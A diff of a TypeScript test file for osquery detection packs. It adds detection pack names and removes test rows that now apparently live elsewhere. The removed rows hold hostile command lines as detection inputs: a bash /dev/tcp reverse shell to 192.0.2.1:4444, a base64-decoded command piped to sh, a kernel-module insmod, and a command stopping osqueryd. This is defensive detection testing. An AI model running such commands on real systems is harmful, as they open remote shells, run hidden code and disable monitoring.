@@ -36,6 +36,8 @@ const standardPacks = [
   'seccomp_events',
 ];
 const packNames = [...standardPacks, 'process_file_events'];
+/** Made from tables/detections, and tested there. */
+const detectionPacks = ['detections', 'file_detections'];
 const queries = packNames.flatMap(pack =>
   Object.entries(json<{ queries: Record<string, PackQuery> }>(`tables/packs/${pack}.conf`).queries).map(
     ([name, query]) => ({ pack, name, ...query }),
@@ -70,11 +72,13 @@ const matches = (pack: string, row: Readonly<Record<string, string | number>>): 
 describe('the configuration', () => {
   test('names every pack, and nothing but packs', () => {
     const files = readdirSync(new URL('../../tables/packs/', import.meta.url)).filter(
-      name => name !== 'osquery.conf',
+      name => name.endsWith('.conf') && name !== 'osquery.conf',
     );
-    expect(files.sort()).toEqual(packNames.map(name => `${name}.conf`).sort());
+    expect(files.sort()).toEqual([...packNames, ...detectionPacks].map(name => `${name}.conf`).sort());
     expect(config.packs).toEqual(
-      Object.fromEntries(standardPacks.map(name => [name, `/etc/osquery/packs/${name}.conf`])),
+      Object.fromEntries(
+        [...standardPacks, 'detections'].map(name => [name, `/etc/osquery/packs/${name}.conf`]),
+      ),
     );
   });
 
@@ -120,15 +124,6 @@ describe('process_events: each query finds what it is for', () => {
     [{ uid: 0, euid: 0, gid: 0, egid: 0 }, ['root_by_person']],
     [{ auid: 4294967295, uid: 0, euid: 0, gid: 0, egid: 0 }, []],
     [{ path: '/usr/bin/sudo', euid: 0 }, ['changed_privileges']],
-    [{ path: '/tmp/x' }, ['writable_directories']],
-    [{ path: '/usr/bin/x (deleted)' }, ['without_file']],
-    [{ path: '/memfd:x (deleted)' }, ['without_file']],
-    [{ path: '/usr/bin/bash', cmdline: 'bash -c exec 3<>/dev/tcp/192.0.2.1/4444' }, ['remote_shells']],
-    [{ cmdline: 'sh -c echo aWQK | base64 -d | sh' }, ['remote_shells']],
-    [{ path: '/usr/bin/kmod', cmdline: 'insmod x.ko' }, ['kernel_modules']],
-    [{ path: '/usr/bin/kmod', cmdline: 'lsmod' }, []],
-    [{ path: '/usr/bin/systemctl', cmdline: 'systemctl stop osqueryd' }, ['monitoring_changed']],
-    [{ path: '/usr/bin/systemctl', cmdline: 'systemctl status ssh' }, []],
   ])('%j', (change, expected) => {
     expect(matches('process_events', { ...plain, ...change })).toEqual(['executions', ...expected]);
   });
@@ -146,8 +141,7 @@ describe('socket_events: each query finds what it is for', () => {
     [{}, ['outgoing_connections']],
     [{ remote_address: '127.0.0.53' }, []],
     [{ family: 10, remote_address: '::1' }, []],
-    [{ path: '/usr/bin/bash' }, ['outgoing_connections', 'connections_by_shells']],
-    [{ action: 'bind', local_address: '0.0.0.0', local_port: 22 }, ['new_listeners']],
+    [{ action: 'bind', local_address: '0.0.0.0', local_port: 22 }, ['taken_ports']],
     [{ action: 'bind', local_port: 0 }, []],
     [{ action: 'accept' }, ['incoming_connections']],
   ])('%j', (change, expected) => {
